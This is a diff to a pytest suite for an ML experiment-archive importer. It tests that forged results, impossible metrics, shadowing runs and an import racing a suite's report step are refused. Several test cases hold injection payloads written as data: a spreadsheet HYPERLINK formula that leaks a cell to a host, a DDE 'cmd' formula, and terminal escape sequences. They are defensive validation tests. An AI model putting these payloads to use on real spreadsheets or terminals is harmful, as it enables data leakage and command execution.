@@ -642,13 +642,8 @@ def test_a_deleted_local_experiment_of_the_same_name_is_a_clear_refusal(home, no
     with sqlite3.connect(home / "mlflow.db") as db:
         db.execute("INSERT INTO experiments (experiment_id, name, artifact_location, lifecycle_stage) "
                    "VALUES (77, 'renamed', 'x', 'deleted')")
-    def new_ids(folder):  # the runs become new to the home store, their artifact folders with them
-        for path in folder.glob("mlruns/*/*"):
-            if len(path.name) == 32:
-                path.rename(path.with_name(path.name[1:] + "f"))
-    renamed = variant(node, tmp_path, "UPDATE experiments SET name = 'renamed' WHERE name = 'alexnet-claims';"
-                      + "".join(f"UPDATE {t} SET run_uuid = substr(run_uuid, 2) || 'f';" for t in TABLES[1:]),
-                      edit=new_ids)
+    sql, new_ids = _new_ids("UPDATE experiments SET name = 'renamed' WHERE name = 'alexnet-claims';")
+    renamed = variant(node, tmp_path, sql, edit=new_ids)  # the runs become new to the home store
     line = refused(home, pack(renamed, tmp_path / "deleted.tar.gz"), "holds a deleted experiment named 'renamed'")
     assert "invalid archive" not in line  # a local condition, not the archive's fault
 
@@ -674,3 +669,174 @@ def test_a_refused_import_into_a_new_store_leaves_nothing(node, tmp_path, capsys
         os.chdir(cwd)
     assert status == 2, capsys.readouterr().err
     assert sorted(str(p) for p in work.rglob("*")) == before
+
+
+# meaning, not only form (issue 38): values that cannot be true, runs that would shadow local ones
+
+
+def _new_ids(sql: str = ""):
+    """An edit and SQL that give every run of the node a new id (its artifact folders with it), so
+    that the runs are new to a store that holds the node's own: ``variant(node, tmp, *_new_ids())``."""
+    def edit(folder):
+        for path in folder.glob("mlruns/*/*"):
+            if len(path.name) == 32:
+                path.rename(path.with_name(path.name[1:] + "f"))
+    renamed = "".join(f"UPDATE {t} SET run_uuid = substr(run_uuid, 2) || 'f';" for t in TABLES[1:])
+    parents = "UPDATE tags SET value = substr(value, 2) || 'f' WHERE key = 'mlflow.parentRunId';"
+    return renamed + parents + sql, edit
+
+
+def _results(run: str | None, change):
+    """An edit applying ``change`` to the result.json of ``run`` (every run when None)."""
+    def edit(folder):
+        for path in folder.glob(f"mlruns/*/{run or '*'}/artifacts/result.json"):
+            path.write_text(json.dumps(change(json.loads(path.read_text()))))
+    return edit
+
+
+FORGED = {  # a result.json value that no training can produce, and what the refusal names
+    "test accuracy 1.7": (_set(("epochs", 0, "test_acc"), 1.7), "epochs[0].test_acc: expected an accuracy in [0, 1]"),
+    "train accuracy 3": (_set(("epochs", 0, "train_acc"), 3), "epochs[0].train_acc: expected an accuracy in [0, 1]"),
+    "negative epoch": (_set(("epochs", 0, "epoch"), -1), "epochs[0].epoch: expected a finite number >= 0 (got -1)"),
+    "epoch 2 of 1": (_set(("epochs", 0, "epoch"), 2), "epochs[0].epoch: expected 1: epochs numbered 1..n in order"),
+    "negative images/s": (_set(("epochs", 0, "examples_per_s"), -5.0), "examples_per_s: expected a finite number"),
+    "negative wall time": (_set(("epochs", 0, "epoch_time_s"), -100.0), "epoch_time_s: expected a finite number"),
+    "huge grad norm": (_set(("grad_norms", "0.Conv2d"), 10**400), "grad_norms: expected layer names to finite"),
+    "mathtext layer": (_set(("grad_norms", "$\\frac{}{}$"), 1.0), "grad_norms: expected the network's own layers"),
+    "formula in torch": (_set(("env", "torch"), '=HYPERLINK("http://x?leak="&A1,"torch")'), "env.torch"),
+    "formula in commit": (_set(("env", "git_commit"), "@SUM(1+1)*cmd|' /C calc'!A0"), "env.git_commit"),
+    "escape in device": (_set(("env", "device"), "cpu\x1b]0;owned\x07"), "env: expected names to printable"),
+}
+
+
+@pytest.mark.parametrize("case", list(FORGED))
+def test_a_number_no_training_can_produce_is_refused_naming_run_and_field(node, tmp_path, case, refused):
+    change, expected = FORGED[case]
+    run = one_run(node)
+    home = tmp_path / "fresh"
+    home.mkdir()
+    line = refused(home, pack(variant(node, tmp_path, edit=_results(run, change)), tmp_path / "forged.tar.gz"),
+                   expected)
+    assert f"run {run}'s result.json is malformed" in line
+
+
+def test_params_that_disagree_with_the_result_are_refused(node, tmp_path, refused):
+    run = one_run(node)
+    home = tmp_path / "fresh"
+    home.mkdir()
+    sql = f"UPDATE params SET value = '999' WHERE run_uuid = '{run}' AND key = 'lr';"
+    refused(home, pack(variant(node, tmp_path, sql), tmp_path / "params.tar.gz"), "param lr '999': expected '0.01'")
+
+
+def test_imported_runs_of_a_key_the_store_holds_never_shadow_its_own(node, tmp_path, capsys):
+    """The home store is the node's own store (its runs local, not imported). The archive brings the
+    same runs again under new ids, dated a day later, with a better test accuracy: every lookup
+    the suite makes (its run key, its newest suite run) still finds the local run."""
+    home = tmp_path / "home"
+    shutil.copytree(node, home)
+    later = "UPDATE runs SET start_time = start_time + 86400000, end_time = end_time + 86400000;"
+    sql, edit = _new_ids(later)
+
+    def better(folder):
+        edit(folder)
+        _results(None, _set(("epochs", 0, "test_acc"), 0.99))(folder)
+    status, out, err = run_import(home, pack(variant(node, tmp_path, sql, better), tmp_path / "shadow.tar.gz"),
+                                  capsys)
+    assert status == 0 and "imported 4 runs" in out, err
+    tracker = Tracker(f"sqlite:///{home}/mlflow.db")
+    with sqlite3.connect(node / "mlflow.db") as db:
+        local = {r for (r,) in db.execute("SELECT run_uuid FROM runs")}
+    for tags in ({"kind": "arm", "seed": "0"}, {"kind": "arm", "seed": "1"}, {"kind": "suite"}):
+        found = tracker.find(tags)
+        assert len(found) == 2 and found[0].info.run_id in local and found[1].info.run_id not in local, tags
+        assert "import.time" in found[1].data.tags and "import.time" not in found[0].data.tags
+    arm = tracker.find({"kind": "arm", "seed": "0"})[0]
+    assert tracker.load_result(arm).final("test_acc") != 0.99
+
+
+ROWS_OF_MEANING = {  # SQL on the node's store, and what the refusal names
+    "future start": ("UPDATE runs SET start_time = start_time + 3 * 86400000 WHERE run_uuid = '{run}';",
+                     "h in the future (clocks may differ by at most 24 h)"),
+    "parent outside": ("UPDATE tags SET value = '{local}' WHERE run_uuid = '{run}' AND key = 'mlflow.parentRunId';",
+                       "links to '{local}', which is not a run of the archive"),
+    "import tag": ("INSERT INTO tags VALUES ('import.time', '0', '{run}');", "is the import's own"),
+    "metric logged 40 times": (
+        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 40) INSERT INTO metrics "
+        "SELECT 'train_loss', 1.0, 1000 + i, '{run}', 1, 0 FROM n;", "is logged 4"),
+    "step past its epochs": ("INSERT INTO metrics VALUES ('train_loss', 1.0, 5, '{run}', 99, 0);",
+                             "at step 99; a run logs each metric at most 32 times per step, at steps 0 to its "
+                             "epochs (1)"),
+    "2,001 metric names": (
+        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2001) INSERT INTO metrics "
+        "SELECT 'm' || i, 1.0, 5, '{run}', 0, 0 FROM n;", "logs 2,0"),
+}
+
+
+@pytest.mark.parametrize("case", list(ROWS_OF_MEANING))
+def test_rows_that_no_run_can_log_are_refused(node, tmp_path, case, refused):
+    sql, expected = ROWS_OF_MEANING[case]
+    run, local = one_run(node), "0" * 32
+    home = tmp_path / "fresh"
+    home.mkdir()
+    refused(home, pack(variant(node, tmp_path, sql.format(run=run, local=local)), tmp_path / "rows.tar.gz"),
+            expected.format(local=local))
+
+
+def _claim_run(node: Path) -> str:
+    with sqlite3.connect(node / "mlflow.db") as db:
+        return db.execute("SELECT run_uuid FROM tags WHERE key = 'kind' AND value = 'claim'").fetchone()[0]
+
+
+@pytest.mark.parametrize("case,runs,expected", [
+    ("no run id", [{"arm": "relu", "seed": 0, "lr": 0.01}], "run_id 'None' is not a run of this archive"),
+    ("local run id", [{"arm": "relu", "seed": 0, "lr": 0.01, "run_id": "a" * 32}], "is not a run of this archive"),
+    ("escape in arm", [{"arm": "relu\x1b]0;x\x07", "seed": 0, "lr": 0.01, "run_id": "{arm}"}], "runs: expected"),
+    ("formula arm", [{"arm": "=1+1", "seed": 0, "lr": 0.01, "run_id": "{arm}"}], "not starting like a formula"),
+])
+def test_a_verdict_whose_runs_are_not_the_archives_or_whose_text_is_not_printable_is_refused(
+        node, tmp_path, case, runs, expected, refused):
+    claim, arm = _claim_run(node), one_run(node)
+    home = tmp_path / "fresh"
+    home.mkdir()
+
+    def edit(folder):
+        path = next(folder.glob(f"mlruns/*/{claim}/artifacts/verdict.json"))
+        verdict = json.loads(path.read_text())
+        verdict["runs"] = [{**r, **({"run_id": arm} if r.get("run_id") == "{arm}" else {})} for r in runs]
+        path.write_text(json.dumps(verdict))
+    line = refused(home, pack(variant(node, tmp_path, edit=edit), tmp_path / "verdict.tar.gz"), expected)
+    assert f"run {claim}'s verdict.json is malformed" in line
+
+
+@pytest.mark.parametrize("name", ["results/smoke/cpu/zz.png/readme.txt", "results/smoke/cpu/notes.txt",
+                                  "results/claims.md", "results/smoke/CPU!/claims.md"])
+def test_a_report_of_an_unknown_kind_or_place_is_refused(home, node, tmp_path, name, refused):
+    refused(home, pack(node, tmp_path / "kind.tar.gz", [(member(name, size=1), b"x")]),
+            "is not one a suite or benchmark writes")
+
+
+def test_an_import_while_a_suite_writes_its_reports_is_refused_and_the_reports_are_the_suites(
+        node, tmp_path, capsys, data_dir, monkeypatch, ledger):
+    """The race the review found: the import checked the local reports before taking the store's
+    lock, and a suite wrote its reports after releasing its own; an import started in between
+    left claims.md the node's and the rest the suite's. The import is started at the worst
+    moment, as the suite begins to write its reports: it is refused, and every report is the suite's."""
+    from ablations import __main__ as cli
+
+    home = tmp_path / "home"
+    home.mkdir()
+    archive = pack(node, tmp_path / "race.tar.gz")
+    real, seen = cli.write_results, {}
+
+    def write_then(reports, folder, **kwargs):
+        seen["import"] = run_import(home, archive, capsys)
+        return real(reports, folder, **kwargs)
+    monkeypatch.setattr(cli, "write_results", write_then)
+    status = main(["--scale", "smoke", "--only", "shapes", "--tracking-uri", f"sqlite:///{home}/mlflow.db",
+                   "--results-dir", str(home / "results"), "--checkpoint-dir", str(tmp_path / "ck"), "--data-dir",
+                   str(data_dir)])
+    imported, _, err = seen["import"]
+    ledger(kind="archive", archive="import during a suite's report step", rejected=imported == 2,
+           error=err.strip().splitlines()[0] if err.strip() else "", outside_bytes=0, store_changed=imported == 0)
+    assert status == 0 and imported == 2 and "a suite is running on" in err
+    assert "node report" not in (home / "results" / "smoke" / "cpu" / "claims.md").read_text()
